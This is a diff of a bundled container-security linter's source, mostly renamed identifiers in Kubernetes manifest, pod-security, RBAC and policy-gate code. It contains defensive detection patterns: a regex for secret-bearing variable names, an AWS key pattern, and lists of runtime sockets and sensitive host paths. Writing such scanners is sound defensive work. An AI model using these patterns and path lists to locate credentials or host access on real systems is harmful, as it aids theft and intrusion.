+  return (0, import_yaml10.isScalar)(value) || (0, import_yaml10.isMap)(value) || (0, import_yaml10.isSeq)(value) || (0, import_yaml10.isAlias)(value);
 }
 function isNullScalar(node) {
-  return (0, import_yaml2.isScalar)(node) && (node.value === null || node.value === void 0);
+  return (0, import_yaml10.isScalar)(node) && (node.value === null || node.value === void 0);
 }
 function resolveNode(doc2, value) {
   let current = value;
-  for (let hops = 0; hops < MAX_ALIAS_HOPS; hops++) {
-    if ((0, import_yaml2.isAlias)(current)) {
+  for (let hops = 0; hops < MAX_ALIAS_HOPS2; hops++) {
+    if ((0, import_yaml10.isAlias)(current)) {
       try {
         current = current.resolve(doc2);
       } catch {
@@ -35967,12 +48911,12 @@ function resolveNode(doc2, value) {
       }
       continue;
     }
-    return (0, import_yaml2.isScalar)(current) || (0, import_yaml2.isMap)(current) || (0, import_yaml2.isSeq)(current) ? current : void 0;
+    return (0, import_yaml10.isScalar)(current) || (0, import_yaml10.isMap)(current) || (0, import_yaml10.isSeq)(current) ? current : void 0;
   }
   return void 0;
 }
 function keyString(key) {
-  if ((0, import_yaml2.isScalar)(key)) {
+  if ((0, import_yaml10.isScalar)(key)) {
     const value = key.value;
     if (typeof value === "string") return value;
     if (typeof value === "number" || typeof value === "boolean") return String(value);
@@ -35980,39 +48924,39 @@ function keyString(key) {
   }
   return void 0;
 }
-function findPair(doc2, items, key, depth) {
+function findPair(doc2, items2, key, depth) {
   let found;
-  for (const pair2 of items) {
-    if ((0, import_yaml2.isPair)(pair2) && keyString(pair2.key) === key) found = pair2;
+  for (const pair2 of items2) {
+    if ((0, import_yaml10.isPair)(pair2) && keyString(pair2.key) === key) found = pair2;
   }
-  if (found || depth >= MAX_MERGE_DEPTH) return found;
-  for (const source of mergeSources(doc2, items)) {
+  if (found || depth >= MAX_MERGE_DEPTH2) return found;
+  for (const source of mergeSources(doc2, items2)) {
     const merged = findPair(doc2, source.items, key, depth + 1);
     if (merged) return merged;
   }
   return void 0;
 }
-function collectEntries(doc2, items, depth, visit) {
-  for (let i = items.length - 1; i >= 0; i--) {
-    const pair2 = items[i];
-    if (!(0, import_yaml2.isPair)(pair2)) continue;
+function collectEntries(doc2, items2, depth, visit) {
+  for (let i = items2.length - 1; i >= 0; i--) {
+    const pair2 = items2[i];
+    if (!(0, import_yaml10.isPair)(pair2)) continue;
     const key = keyString(pair2.key);
     if (key !== void 0 && key !== "<<") visit(key, pair2);
   }
-  if (depth >= MAX_MERGE_DEPTH) return;
-  for (const source of mergeSources(doc2, items)) collectEntries(doc2, source.items, depth + 1, visit);
+  if (depth >= MAX_MERGE_DEPTH2) return;
+  for (const source of mergeSources(doc2, items2)) collectEntries(doc2, source.items, depth + 1, visit);
 }
-function mergeSources(doc2, items) {
+function mergeSources(doc2, items2) {
   const sources = [];
-  for (const pair2 of items) {
-    if (!(0, import_yaml2.isPair)(pair2) || !(0, import_yaml2.isScalar)(pair2.key) || pair2.key.value !== "<<") continue;
-    if ((0, import_yaml2.isScalar)(pair2.key) && pair2.key.type !== "PLAIN" && pair2.key.type !== void 0) continue;
+  for (const pair2 of items2) {
+    if (!(0, import_yaml10.isPair)(pair2) || !(0, import_yaml10.isScalar)(pair2.key) || pair2.key.value !== "<<") continue;
+    if ((0, import_yaml10.isScalar)(pair2.key) && pair2.key.type !== "PLAIN" && pair2.key.type !== void 0) continue;
     const value = resolveNode(doc2, pair2.value);
-    if ((0, import_yaml2.isMap)(value)) sources.push(value);
-    else if ((0, import_yaml2.isSeq)(value)) {
+    if ((0, import_yaml10.isMap)(value)) sources.push(value);
+    else if ((0, import_yaml10.isSeq)(value)) {
       for (const item of value.items) {
         const resolved = resolveNode(doc2, item);
-        if ((0, import_yaml2.isMap)(resolved)) sources.push(resolved);
+        if ((0, import_yaml10.isMap)(resolved)) sources.push(resolved);
       }
     }
   }
@@ -36026,7 +48970,7 @@ function parseManifestFile(path8, text) {
   const objects = [];
   const errors = [];
   const fail2 = (message, position, key) => {
-    errors.push(parseError(path8, message, position, key));
+    errors.push(parseError2(path8, message, position, key));
   };
   if (looksBinary2(text)) {
     fail2(
@@ -36071,9 +49015,9 @@ function parseManifestFile(path8, text) {
     const object = toObject(path8, root, docIndex, -1);
     if (!object) return;
     if (object.kind === "List" || object.kind.endsWith("List")) {
-      const items = root.get("items");
-      if (object.kind === "List" || items?.isSeq()) {
-        collectListItems(path8, items, docIndex, objects, fail2);
+      const items2 = root.get("items");
+      if (object.kind === "List" || items2?.isSeq()) {
+        collectListItems(path8, items2, docIndex, objects, fail2);
         return;
       }
     }
@@ -36081,9 +49025,9 @@ function parseManifestFile(path8, text) {
   });
   return { objects, errors };
 }
-function collectListItems(path8, items, docIndex, objects, fail2) {
-  if (!items) return;
-  const list = items.items();
+function collectListItems(path8, items2, docIndex, objects, fail2) {
+  if (!items2) return;
+  const list = items2.items();
   list.slice(0, MAX_LIST_ITEMS).forEach((item, itemIndex) => {
     const object = toObject(path8, item, docIndex, itemIndex);
     if (object) objects.push(object);
@@ -36091,7 +49035,7 @@ function collectListItems(path8, items, docIndex, objects, fail2) {
   if (list.length > MAX_LIST_ITEMS) {
     fail2(
       `The List has ${list.length} items; only the first ${MAX_LIST_ITEMS} were checked.`,
-      items.position,
+      items2.position,
       "list-items"
     );
   }
@@ -36122,7 +49066,7 @@ function objectRef(object) {
 function objectKey(object) {
   return `${object.namespace ?? ""}/${object.kind}/${object.name}`;
 }
-function parseError(path8, message, position, key) {
+function parseError2(path8, message, position, key) {
   return {
     ruleId: "manifests/parse-error",
     severity: "high",
@@ -36189,9 +49133,9 @@ function parseIgnoreAnnotation(value) {
   const colon = value.indexOf(":");
   const head = colon < 0 ? value : value.slice(0, colon);
   const reason = colon < 0 ? "" : value.slice(colon + 1).trim();
-  const entries = head.split(",").map((e) => e.trim()).filter(Boolean);
-  const parsed = entries.map((entry) => ENTRY_RE.exec(entry));
-  if (entries.length === 0 || parsed.some((m) => !m)) {
+  const entries2 = head.split(",").map((e) => e.trim()).filter(Boolean);
+  const parsed = entries2.map((entry) => ENTRY_RE.exec(entry));
+  if (entries2.length === 0 || parsed.some((m) => !m)) {
     return { ignores: [], problem: 'names no valid rule id (expected "<family>/<rule>[container],...: <reason>")' };
   }
   if (!reason) return { ignores: [], problem: "has no reason after the rule ids" };
@@ -36240,11 +49184,11 @@ function applyIgnores2(findings, ignores) {
 }
 
 // src/checks/manifests/kubernetes/findings.ts
-function objectFinding(rule, object, at, message, key, extra = {}) {
+function objectFinding(rule35, object, at, message, key, extra = {}) {
   return {
-    ruleId: rule.id,
-    severity: rule.severity,
-    title: rule.title,
+    ruleId: rule35.id,
+    severity: rule35.severity,
+    title: rule35.title,
     message,
     location: {
       path: object.path,
@@ -36347,7 +49291,7 @@ var envSecretRule = {
   fix: "Rotate the credential, then reference it from a Secret:\n\n```yaml\nenv:\n  - name: DB_PASSWORD\n    valueFrom:\n      secretKeyRef:\n        name: db\n        key: password\n```",
   references: ["https://kubernetes.io/docs/concepts/configuration/secret/"]
 };
-var SECRET_NAME_RE = /(PASS(WORD|WD)?|SECRET|TOKEN|API_?KEY|APIKEY|PRIVATE_?KEY|ACCESS_?KEY|CREDENTIAL|AUTH_?KEY|CLIENT_?SECRET|CONN(ECTION)?_?STRING|DSN)$|^(PASS(WORD)?|SECRET|TOKEN)|_(PASSWORD|SECRET|TOKEN)_/i;
+var SECRET_NAME_RE2 = /(PASS(WORD|WD)?|SECRET|TOKEN|API_?KEY|APIKEY|PRIVATE_?KEY|ACCESS_?KEY|CREDENTIAL|AUTH_?KEY|CLIENT_?SECRET|CONN(ECTION)?_?STRING|DSN)$|^(PASS(WORD)?|SECRET|TOKEN)|_(PASSWORD|SECRET|TOKEN)_/i;
 var NON_SECRET_NAME_RE = /(_FILE|_PATH|_DIR|_URL_PATH|_NAME|_USER(NAME)?|_HEADER|_TTL|_EXPIRY|_LENGTH|_ENABLED)$/i;
 var SECRET_VALUE_RES = [
   { re: /\b(AKIA|ASIA)[0-9A-Z]{16}\b/, label: "an AWS access key id" },
@@ -36367,7 +49311,7 @@ function isPlaceholder(value) {
 }
 function secretReason(name, value) {
   for (const { re, label } of SECRET_VALUE_RES) if (re.test(value)) return `its value looks like ${label}`;
-  if (SECRET_NAME_RE.test(name) && !NON_SECRET_NAME_RE.test(name) && !isPlaceholder(value))
+  if (SECRET_NAME_RE2.test(name) && !NON_SECRET_NAME_RE.test(name) && !isPlaceholder(value))
     return "its name says it holds a secret";
   return void 0;
 }
@@ -36433,7 +49377,7 @@ function containerHardeningFindings(pod) {
 }
 
 // src/checks/manifests/kubernetes/host-paths.ts
-import { posix } from "node:path";
+import { posix as posix3 } from "node:path";
 var runtimeSocketRule = {
   id: "k8s/container-runtime-socket",
   check: "manifests",
@@ -36454,7 +49398,7 @@ var sensitiveHostPathRule = {
   fix: "Mount only what the workload needs, read-only, or use a projected/configMap volume instead:\n\n```yaml\nvolumes:\n  - name: config\n    configMap:\n      name: app-config\n```",
   references: ["https://kubernetes.io/docs/concepts/storage/volumes/#hostpath"]
 };
-var RUNTIME_SOCKETS = [
+var RUNTIME_SOCKETS2 = [
   "/var/run/docker.sock",
   "/run/docker.sock",
   "/var/run/containerd/containerd.sock",
@@ -36491,7 +49435,7 @@ var SENSITIVE_PATHS = [
   "/etc/kubernetes"
 ];
 function normalizeHostPath(path8) {
-  const normalized = posix.normalize(`/${path8.trim()}`);
+  const normalized = posix3.normalize(`/${path8.trim()}`);
   return normalized.length > 1 && normalized.endsWith("/") ? normalized.slice(0, -1) : normalized;
 }
 function within(path8, dir) {
@@ -36499,7 +49443,7 @@ function within(path8, dir) {
 }
 function classifyHostPath(raw) {
   const path8 = normalizeHostPath(raw);
-  if (RUNTIME_SOCKETS.some((socket) => within(socket, path8))) return "socket";
+  if (RUNTIME_SOCKETS2.some((socket) => within(socket, path8))) return "socket";
   if (SENSITIVE_PATHS.some((dir) => within(path8, dir) || within(dir, path8))) return "sensitive";
   return void 0;
 }
@@ -36511,11 +49455,11 @@ function hostPathFindings(pod) {
     const kind = classifyHostPath(path8);
     if (!kind) return [];
     const name = volume.get("name")?.string() ?? "";
-    const rule = kind === "socket" ? runtimeSocketRule : sensitiveHostPathRule;
+    const rule35 = kind === "socket" ? runtimeSocketRule : sensitiveHostPathRule;
     const what = kind === "socket" ? "the container runtime socket (or a directory containing it)" : "a sensitive host path";
     return [
       objectFinding(
-        rule,
+        rule35,
         pod.object,
         pathView,
         `Volume "${name}" mounts ${what}: hostPath "${path8}".`,
@@ -36559,7 +49503,7 @@ function parseImageRef(image) {
   if (colon > slash) return { name: rest.slice(0, colon), tag: rest.slice(colon + 1), digest };
   return { name: rest, digest };
 }
-var DIGEST_RE = /^[a-z0-9]+(?:[.+_-][a-z0-9]+)*:[a-zA-Z0-9=_-]{32,}$/;
+var DIGEST_RE2 = /^[a-z0-9]+(?:[.+_-][a-z0-9]+)*:[a-zA-Z0-9=_-]{32,}$/;
 function imageFindings(pod) {
   const out = [];
   for (const container of pod.containers) {
@@ -36567,7 +49511,7 @@ function imageFindings(pod) {
     const image = view2?.string();
     if (!view2 || !image) continue;
     const ref = parseImageRef(image);
-    if (ref.digest && DIGEST_RE.test(ref.digest)) continue;
+    if (ref.digest && DIGEST_RE2.test(ref.digest)) continue;
     const key = `${containerKey(container)}.image`;
     if (!ref.tag || ref.tag === "latest") {
       out.push(
@@ -37118,7 +50062,7 @@ function privilegedV1Dot0(pod) {
     ] : [];
   });
 }
-var privileged = {
+var privileged2 = {
   id: "privileged",
   level: "baseline",
   reason: "privileged",
@@ -37293,10 +50237,10 @@ function validAnnotationValue(value) {
 function seccompProfileBaselineV1Dot0(pod) {
   const annotations = pod.metadata?.get("annotations");
   if (!annotations) return [];
-  const entries = new Map(annotations.entries());
+  const entries2 = new Map(annotations.entries());
   const out = [];
-  const check = (key, container) => {
-    const view2 = entries.get(key);
+  const check2 = (key, container) => {
+    const view2 = entries2.get(key);
     if (!view2) return;
     const value = view2.string() ?? "";
     if (!validAnnotationValue(value))
@@ -37307,8 +50251,8 @@ function seccompProfileBaselineV1Dot0(pod) {
         key: `annotations[${key}]`
       });
   };
-  check(SECCOMP_POD_ANNOTATION);
-  for (const container of pod.containers) check(SECCOMP_CONTAINER_ANNOTATION_PREFIX + container.name, container);
+  check2(SECCOMP_POD_ANNOTATION);
+  for (const container of pod.containers) check2(SECCOMP_CONTAINER_ANNOTATION_PREFIX + container.name, container);
   return out;
 }
 function explicitlyBad(pod) {
@@ -37655,7 +50599,7 @@ var windowsHostProcess = {
 // src/checks/manifests/kubernetes/pod-security/levels.ts
 var PSS_CONTROLS = [
   // Baseline
-  privileged,
+  privileged2,
   hostNamespaces,
   capabilitiesBaseline,
   hostPathVolumes,
@@ -37800,10 +50744,10 @@ function rbacFindings(object) {
   if (object.kind === "ClusterRoleBinding" || object.kind === "RoleBinding") return bindingFindings(object);
   if (object.kind !== "Role" && object.kind !== "ClusterRole") return [];
   const out = [];
-  (object.view.get("rules")?.items() ?? []).forEach((rule, index) => {
-    const verbs = strings(rule.get("verbs"));
-    const resources = strings(rule.get("resources"));
-    const groups = strings(rule.get("apiGroups")).map((g) => g.value);
+  (object.view.get("rules")?.items() ?? []).forEach((rule35, index) => {
+    const verbs = strings(rule35.get("verbs"));
+    const resources = strings(rule35.get("resources"));
+    const groups = strings(rule35.get("apiGroups")).map((g) => g.value);
     const wildVerb = verbs.find((v) => v.value === "*");
     const wildResource = resources.find((r) => r.value === "*");
     for (const wild of [wildVerb, wildResource]) {
@@ -38016,9 +50960,9 @@ var kubernetesLinter = {
     return findings;
   }
 };
-function groupByObject(entries) {
+function groupByObject(entries2) {
   const out = /* @__PURE__ */ new Map();
-  for (const { object, finding } of entries) out.set(object, [...out.get(object) ?? [], finding]);
+  for (const { object, finding } of entries2) out.set(object, [...out.get(object) ?? [], finding]);
   return out;
 }
 function dedupe(findings) {
@@ -38032,7 +50976,7 @@ function dedupe(findings) {
 }
 
 // src/checks/manifests/index.ts
-var manifestLinters = [kubernetesLinter];
+var manifestLinters = [kubernetesLinter, dockerfileLinter, composeLinter];
 var manifestsCheck = fileCheck({
   id: "manifests",
   title: "Manifest linting",
@@ -38047,21 +50991,11 @@ var UNAVAILABLE_CHECKS = {
   signatures: "Signature verification is not available in this build of containersec."
 };
 
-// src/core/severity.ts
-var SEVERITIES = ["critical", "high", "medium", "low", "info"];
-var RANK = { critical: 4, high: 3, medium: 2, low: 1, info: 0 };
-function meetsThreshold(severity, threshold) {
-  return threshold !== "none" && RANK[severity] >= RANK[threshold];
-}
-function compareSeverity(a, b) {
-  return RANK[b] - RANK[a];
-}
-
 // src/policy/rule-ids.ts
-function ruleExists(rules, pattern) {
-  if (rules.get(pattern)) return true;
+function ruleExists(rules9, pattern) {
+  if (rules9.get(pattern)) return true;
   if (/[*?[\]{}]/.test(pattern)) {
-    return rules.all().some((rule) => minimatch(rule.id, pattern) || rule.id.endsWith("/*") && family(rule.id) === family(pattern));
+    return rules9.all().some((rule35) => minimatch(rule35.id, pattern) || rule35.id.endsWith("/*") && family(rule35.id) === family(pattern));
   }
   return false;
 }
@@ -38095,17 +51029,17 @@ function todayUtc(now = /* @__PURE__ */ new Date()) {
 function fromSwitch(value) {
   return value === "fail" ? "info" : "none";
 }
-function thresholdFor(policy, check, ruleId) {
-  if (check === "images") {
+function thresholdFor(policy, check2, ruleId) {
+  if (check2 === "images") {
     const images = policy.checks.images;
     if (ruleId.startsWith("vuln/")) return images.vulnerabilities["fail-on"];
     if (ruleId.startsWith("image/eol")) return fromSwitch(images.eol);
     if (ruleId.startsWith("image/secret")) return fromSwitch(images.secrets);
   }
-  if (check === "signatures" && ruleId === "sig/unpinned-reference") {
+  if (check2 === "signatures" && ruleId === "sig/unpinned-reference") {
     return fromSwitch(policy.checks.signatures["pinned-digests"]);
   }
-  return policy.checks[check]["fail-on"];
+  return policy.checks[check2]["fail-on"];
 }
 
 // src/core/gate.ts
@@ -38137,13 +51071,13 @@ function isNew(raw, fingerprint, base) {
   if (!isFileLocation(raw.location)) return true;
   return !base.has(fingerprint);
 }
-function decideFinding(run3, index, input, used) {
-  const raw = run3.findings[index];
-  const fingerprint = run3.fingerprints[index];
+function decideFinding(run19, index, input, used) {
+  const raw = run19.findings[index];
+  const fingerprint = run19.fingerprints[index];
   const { policy } = input;
-  const newFinding = isNew(raw, fingerprint, run3.baseFingerprints);
+  const newFinding = isNew(raw, fingerprint, run19.baseFingerprints);
   const exception = exceptionFor(raw, policy, input.today, used);
-  const aboveThreshold = meetsThreshold(raw.severity, thresholdFor(policy, run3.id, raw.ruleId));
+  const aboveThreshold = meetsThreshold(raw.severity, thresholdFor(policy, run19.id, raw.ruleId));
   const counts = newFinding || !policy.gate["new-only"];
   const blocking = policy.mode === "enforce" && aboveThreshold && counts && !exception.active;
   const { suppressed: _suppressed, key: _key, ...rest } = raw;
@@ -38154,13 +51088,13 @@ function sortFindings(findings) {
     (a, b) => Number(b.blocking) - Number(a.blocking) || compareSeverity(a.severity, b.severity) || Number(b.new) - Number(a.new) || a.ruleId.localeCompare(b.ruleId) || a.fingerprint.localeCompare(b.fingerprint)
   );
 }
-function checkStatus(run3, findings, policy) {
-  if (!run3.ran) return "skipped";
-  const onError = policy.checks[run3.id]["on-error"] ?? policy["on-error"];
-  if (run3.errors.length > 0 && onError === "fail" && policy.mode === "enforce") return "error";
+function checkStatus(run19, findings, policy) {
+  if (!run19.ran) return "skipped";
+  const onError = policy.checks[run19.id]["on-error"] ?? policy["on-error"];
+  if (run19.errors.length > 0 && onError === "fail" && policy.mode === "enforce") return "error";
   if (findings.some((f) => f.blocking)) return "fail";
   const open3 = findings.some((f) => !f.exception || f.exception.expired);
-  return open3 || run3.errors.length > 0 ? "warn" : "pass";
+  return open3 || run19.errors.length > 0 ? "warn" : "pass";
 }
 var VERDICT_ORDER = ["error", "fail", "warn", "pass"];
 function overallVerdict(statuses, hasStale) {
@@ -38169,24 +51103,24 @@ function overallVerdict(statuses, hasStale) {
   }
   return hasStale ? "warn" : "pass";
 }
-function isStale(exception, used, cleanChecks, rules) {
+function isStale(exception, used, cleanChecks, rules9) {
   if (used.has(exception)) return false;
-  const rule = rules.get(exception.rule);
-  const checks = rule ? [rule.check] : rules.all().filter((r) => family(r.id) === family(exception.rule)).map((r) => r.check);
-  return checks.length > 0 && checks.every((check) => cleanChecks.has(check));
+  const rule35 = rules9.get(exception.rule);
+  const checks = rule35 ? [rule35.check] : rules9.all().filter((r) => family(r.id) === family(exception.rule)).map((r) => r.check);
+  return checks.length > 0 && checks.every((check2) => cleanChecks.has(check2));
 }
 function applyGate(input) {
   const used = /* @__PURE__ */ new Set();
-  const checks = input.runs.map((run3) => {
-    const findings = sortFindings(run3.findings.map((_, index) => decideFinding(run3, index, input, used)));
-    const notes = run3.skipReason ? [run3.skipReason, ...run3.notes] : run3.notes;
+  const checks = input.runs.map((run19) => {
+    const findings = sortFindings(run19.findings.map((_, index) => decideFinding(run19, index, input, used)));
+    const notes = run19.skipReason ? [run19.skipReason, ...run19.notes] : run19.notes;
     return {
-      id: run3.id,
-      status: checkStatus(run3, findings, input.policy),
-      errors: run3.errors,
+      id: run19.id,
+      status: checkStatus(run19, findings, input.policy),
+      errors: run19.errors,
       notes,
       findings,
-      ...run3.durationMs !== void 0 ? { durationMs: run3.durationMs } : {}
+      ...run19.durationMs !== void 0 ? { durationMs: run19.durationMs } : {}
     };
   });
   const cleanChecks = new Set(input.runs.filter((r) => r.ran && r.errors.length === 0).map((r) => r.id));
@@ -38232,32 +51166,32 @@ function fingerprintAll(findings) {
 // src/core/run.ts
 var CheckTimeout = class extends Error {
 };
-async function withTimeout(check, context, seconds, controller) {
+async function withTimeout(check2, context, seconds, controller) {
   let timer;
   const timeout = new Promise((_, reject) => {
     timer = setTimeout(() => {
       controller.abort();
       reject(
         new CheckTimeout(
-          `the ${check.id} check did not finish within ${seconds}s (checks.${check.id}.timeout) and was stopped`
+          `the ${check2.id} check did not finish within ${seconds}s (checks.${check2.id}.timeout) and was stopped`
         )
       );
     }, seconds * 1e3);
     timer.unref();
   });
   try {
-    return await Promise.race([check.run(context), timeout]);
+    return await Promise.race([check2.run(context), timeout]);
   } finally {
     clearTimeout(timer);
   }
 }
-async function runOne(check, options) {
-  const policy = options.context.policy.checks[check.id];
-  const empty = { id: check.id, findings: [], fingerprints: [], errors: [], notes: [] };
-  if (options.only && !options.only.has(check.id)) return { ...empty, ran: false, skipReason: "not selected (--only)" };
+async function runOne(check2, options) {
+  const policy = options.context.policy.checks[check2.id];
+  const empty = { id: check2.id, findings: [], fingerprints: [], errors: [], notes: [] };
+  if (options.only && !options.only.has(check2.id)) return { ...empty, ran: false, skipReason: "not selected (--only)" };
   if (!policy.enabled)
-    return { ...empty, ran: false, skipReason: `disabled in the policy (checks.${check.id}.enabled: false)` };
-  options.onStart?.(check.id);
+    return { ...empty, ran: false, skipReason: `disabled in the policy (checks.${check2.id}.enabled: false)` };
+  options.onStart?.(check2.id);
   const started = performance.now();
   const controller = new AbortController();
   const headContext = {
@@ -38268,20 +51202,20 @@ async function runOne(check, options) {
   };
   let output;
   try {
-    output = await withTimeout(check, headContext, policy.timeout, controller);
+    output = await withTimeout(check2, headContext, policy.timeout, controller);
   } catch (error2) {
-    const message = error2 instanceof CheckTimeout ? error2.message : `the ${check.id} check crashed: ${errorMessage(error2)}`;
+    const message = error2 instanceof CheckTimeout ? error2.message : `the ${check2.id} check crashed: ${errorMessage(error2)}`;
     return { ...empty, ran: true, errors: [message], durationMs: performance.now() - started };
   }
-  const run3 = {
-    id: check.id,
+  const run19 = {
+    id: check2.id,
     ran: true,
     findings: output.findings,
     fingerprints: fingerprintAll(output.findings),
     errors: output.errors ?? [],
     notes: output.notes ?? []
   };
-  if (options.base && check.fileBased) {
+  if (options.base && check2.fileBased) {
     const baseContext = {
       ...options.context,
       tree: options.base,
@@ -38289,17 +51223,17 @@ async function runOne(check, options) {
       signal: controller.signal
     };
     try {
-      const baseOutput = await withTimeout(check, baseContext, policy.timeout, controller);
-      run3.baseFingerprints = new Set(fingerprintAll(baseOutput.findings));
+      const baseOutput = await withTimeout(check2, baseContext, policy.timeout, controller);
+      run19.baseFingerprints = new Set(fingerprintAll(baseOutput.findings));
     } catch (error2) {
-      run3.notes.push(`Could not run on the base revision (${errorMessage(error2)}); every finding counts as new.`);
+      run19.notes.push(`Could not run on the base revision (${errorMessage(error2)}); every finding counts as new.`);
     }
   }
-  run3.durationMs = performance.now() - started;
-  return run3;
+  run19.durationMs = performance.now() - started;
+  return run19;
 }
 function runChecks(options) {
-  return Promise.all(options.checks.map((check) => runOne(check, options)));
+  return Promise.all(options.checks.map((check2) => runOne(check2, options)));
 }
 
 // src/core/did-you-mean.ts
@@ -38317,11 +51251,11 @@ function editDistance(a, b) {
   }
   return row[b.length];
 }
-function didYouMean(input, candidates) {
+function didYouMean(input, candidates2) {
   const needle = input.toLowerCase().slice(0, 200);
   let best;
   let bestDistance = Infinity;
-  for (const candidate of candidates) {
+  for (const candidate of candidates2) {
     const distance = editDistance(needle, candidate.toLowerCase());
     if (distance < bestDistance) {
       best = candidate;
@@ -38331,8 +51265,8 @@ function didYouMean(input, candidates) {
   const allowed = Math.max(2, Math.floor(needle.length / 3));
   return best !== void 0 && bestDistance <= allowed ? best : void 0;
 }
-function didYouMeanSentence(input, candidates) {
-  const suggestion = didYouMean(input, candidates);
+function didYouMeanSentence(input, candidates2) {
+  const suggestion = didYouMean(input, candidates2);
   return suggestion ? ` Did you mean "${suggestion}"?` : "";
 }
 
@@ -38441,7 +51375,7 @@ function git(root, args, maxBytes = 256 * 1024 * 1024) {
       if (stderr.length < 8192) stderr += chunk.toString("utf8");
     });
     child.on("error", (error2) => resolve({ code: -1, stdout: Buffer.alloc(0), stderr: error2.message }));
-    child.on("close", (code) => resolve({ code: code ?? -1, stdout: Buffer.concat(chunks), stderr }));
+    child.on("close", (code3) => resolve({ code: code3 ?? -1, stdout: Buffer.concat(chunks), stderr }));
   });
 }
 async function resolveCommit(root, rev) {
@@ -38470,7 +51404,7 @@ var GitTree = class {
   waiter;
   load() {
     this.entries ??= git(this.root, ["ls-tree", "-r", "-z", "--long", "--full-tree", this.commit]).then((result) => {
-      const entries = /* @__PURE__ */ new Map();
+      const entries2 = /* @__PURE__ */ new Map();
       if (result.code !== 0) throw new Error(`git ls-tree ${this.commit} failed: ${result.stderr.trim()}`);
       for (const record of result.stdout.toString("utf8").split("\0")) {
         const tab = record.indexOf("	");
@@ -38479,9 +51413,9 @@ var GitTree = class {
         if (type !== "blob" || !mode?.startsWith("100") || !oid) continue;
         const path8 = record.slice(tab + 1);
         if (path8.split("/").some((part) => part === ".git" || part === "node_modules")) continue;
-        entries.set(path8, { oid, size: Number(size) });
+        entries2.set(path8, { oid, size: Number(size) });
       }
-      return entries;
+      return entries2;
     });
     return this.entries;
   }
@@ -38560,18 +51494,18 @@ function mergePolicy(base, override) {
 }
 
 // src/policy/positions.ts
-var import_yaml4 = __toESM(require_dist(), 1);
+var import_yaml12 = __toESM(require_dist(), 1);
 function locate(doc2, path8) {
   let current = { value: doc2.contents };
   for (const segment of path8) {
     const node = current.value;
-    if ((0, import_yaml4.isMap)(node)) {
+    if ((0, import_yaml12.isMap)(node)) {
       const pair2 = node.items.find(
-        (item) => (0, import_yaml4.isPair)(item) && (0, import_yaml4.isScalar)(item.key) && String(item.key.value) === String(segment)
+        (item) => (0, import_yaml12.isPair)(item) && (0, import_yaml12.isScalar)(item.key) && String(item.key.value) === String(segment)
       );
       if (!pair2) return current;
       current = { value: pair2.value, pair: pair2 };
-    } else if ((0, import_yaml4.isSeq)(node) && typeof segment === "number") {
+    } else if ((0, import_yaml12.isSeq)(node) && typeof segment === "number") {
       const item = node.items[segment];
       if (item === void 0) return current;
       current = { value: item };
@@ -38581,14 +51515,14 @@ function locate(doc2, path8) {
   }
   return current;
 }
-function positionOf(parsed, doc2, path8, key = false) {
+function positionOf2(parsed, doc2, path8, key = false) {
   const located = locate(doc2, path8);
   const keyNode = located.pair?.key;
   const node = key && keyNode ? keyNode : located.value ?? keyNode ?? doc2.contents;
   return parsed.nodePosition(node) ?? { line: 1, column: 1 };
 }
 function keyPosition(parsed, doc2, path8, name) {
-  return positionOf(parsed, doc2, [...path8, name], true);
+  return positionOf2(parsed, doc2, [...path8, name], true);
 }
 function formatPath(path8) {
   if (path8.length === 0) return "the top level";
@@ -40935,9 +53869,9 @@ function schemaAt(path8) {
   node = resolve(node);
   for (const segment of path8) {
     if (typeof segment === "number") {
-      const items = node.items;
-      if (!items) return void 0;
-      node = resolve(items);
+      const items2 = node.items;
+      if (!items2) return void 0;
+      node = resolve(items2);
     } else {
       const next = node.properties?.[segment];
       if (!next) return void 0;
@@ -41053,9 +53987,9 @@ function validatePolicyData(data) {
 // src/policy/load.ts
 var POLICY_FILE_NAMES = [".containersec.yml", ".containersec.yaml"];
 var MAX_POLICY_BYTES = 1024 * 1024;
-var MAX_EXTENDS_DEPTH = 8;
+var MAX_EXTENDS_DEPTH2 = 8;
 function locationText(file, issuePath, atKey) {
-  const position = positionOf(file.parsed, file.doc, issuePath, atKey);
+  const position = positionOf2(file.parsed, file.doc, issuePath, atKey);
   return `${file.display}:${position.line}:${position.column}`;
 }
 function fail(file, issues) {
@@ -41130,7 +54064,7 @@ function isRealDate(text) {
   const date = /* @__PURE__ */ new Date(`${text}T00:00:00Z`);
   return !Number.isNaN(date.getTime()) && date.toISOString().slice(0, 10) === text;
 }
-function semanticIssues(data, rules) {
+function semanticIssues(data, rules9) {
   const issues = [];
   const exceptions = Array.isArray(data.exceptions) ? data.exceptions : [];
   exceptions.forEach((exception, index) => {
@@ -41141,8 +54075,8 @@ function semanticIssues(data, rules) {
         message: `"${exception.expires}" is not a real date; expected YYYY-MM-DD, e.g. 2027-01-31.`
       });
     }
-    if (typeof exception.rule === "string" && !ruleExists(rules, exception.rule)) {
-      const known = rules.all().map((r) => r.id);
+    if (typeof exception.rule === "string" && !ruleExists(rules9, exception.rule)) {
+      const known = rules9.all().map((r) => r.id);
       issues.push({
         path: ["exceptions", index, "rule"],
         atKey: false,
@@ -41179,8 +54113,8 @@ async function resolveFile(file, options, chain) {
   const issues = [...validatePolicyData(parsedFile.data), ...semanticIssues(parsedFile.data, options.rules)];
   if (issues.length > 0) fail(parsedFile, issues);
   let fragment = {};
-  const entries = extendsList(parsedFile.data);
-  for (const [index, entry] of entries.entries()) {
+  const entries2 = extendsList(parsedFile.data);
+  for (const [index, entry] of entries2.entries()) {
     const where = Array.isArray(parsedFile.data.extends) ? ["extends", index] : ["extends"];
     if (isPresetName(entry)) {
       fragment = mergePolicy(fragment, PRESETS[entry]);
@@ -41207,12 +54141,12 @@ async function resolveFile(file, options, chain) {
         }
       ]);
     }
-    if (chain.includes(target) || chain.length >= MAX_EXTENDS_DEPTH) {
+    if (chain.includes(target) || chain.length >= MAX_EXTENDS_DEPTH2) {
       fail(parsedFile, [
         {
           path: where,
           atKey: false,
-          message: `\`extends:\` cycle or chain deeper than ${MAX_EXTENDS_DEPTH}: ${[...chain, target].map((f) => path3.relative(options.root, f)).join(" -> ")}`
+          message: `\`extends:\` cycle or chain deeper than ${MAX_EXTENDS_DEPTH2}: ${[...chain, target].map((f) => path3.relative(options.root, f)).join(" -> ")}`
         }
       ]);
     }
@@ -41316,9 +54250,13 @@ async function runGate(options) {
   const root = await assertDirectory(options.dir, options.dirLabel);
   const only = parseOnly(options.only);
   const checks = options.checks ?? CHECKS;
-  const rules = new RuleRegistry(checks.flatMap((check) => check.rules));
-  const { policy, notices } = await loadPolicy({ root, file: options.policyFile, rules });
